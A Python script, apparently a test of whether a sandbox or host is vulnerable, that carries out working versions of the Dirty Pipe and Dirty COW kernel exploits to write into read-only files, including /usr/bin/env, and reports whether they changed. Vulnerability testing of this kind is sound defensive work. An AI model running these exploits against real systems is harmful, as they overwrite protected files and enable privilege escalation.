"""Writes to pages of files that can only be read, by holes that kernels had: Dirty Pipe (CVE-2022-0847), Dirty COW (CVE-2016-5195)."""
import ctypes
import mmap
import os
import threading
import time

from attempt import escaped, held

LIBC = ctypes.CDLL(None, use_errno=True)
FILES = ("/target/file", "/usr/bin/env")


def beginning(path):
    with open(path, "rb") as file:
        return file.read(8)


def dirty_pipe(path):
    """The pipe's buffers have been merged into once; then a page of the file is in one, and what is written next goes there."""
    out, into = os.pipe()
    size = 1 << 16
    os.write(into, b"x" * size)
    os.read(out, size)
    file = os.open(path, os.O_RDONLY)
    os.splice(file, into, 1, offset_src=0)
    os.write(into, b"#")


def dirty_cow(path):
    """One thread writes to a private copy, another throws the copy away; a kernel that loses track writes to the file."""
    file = os.open(path, os.O_RDONLY)
    LIBC.mmap.restype = ctypes.c_void_p
    address = LIBC.mmap(None, ctypes.c_size_t(4096), mmap.PROT_READ, mmap.MAP_PRIVATE, file, 0)
    memory = os.open("/proc/self/mem", os.O_RDWR)
    end = time.monotonic() + 0.5

    def forget():
        while time.monotonic() < end:
            LIBC.madvise(ctypes.c_void_p(address), ctypes.c_size_t(4096), 4)

    forgetting = threading.Thread(target=forget)
    forgetting.start()
    while time.monotonic() < end:
        try:
            os.pwrite(memory, b"##", address)
        except OSError:
            break
    forgetting.join()


for path in FILES:
    before = beginning(path)
    for attack in (dirty_pipe, dirty_cow):
        try:
            attack(path)
        except OSError:
            continue
        if beginning(path) != before:
            escaped("%s changed %s" % (attack.__name__, path))
held("the files are as they were")
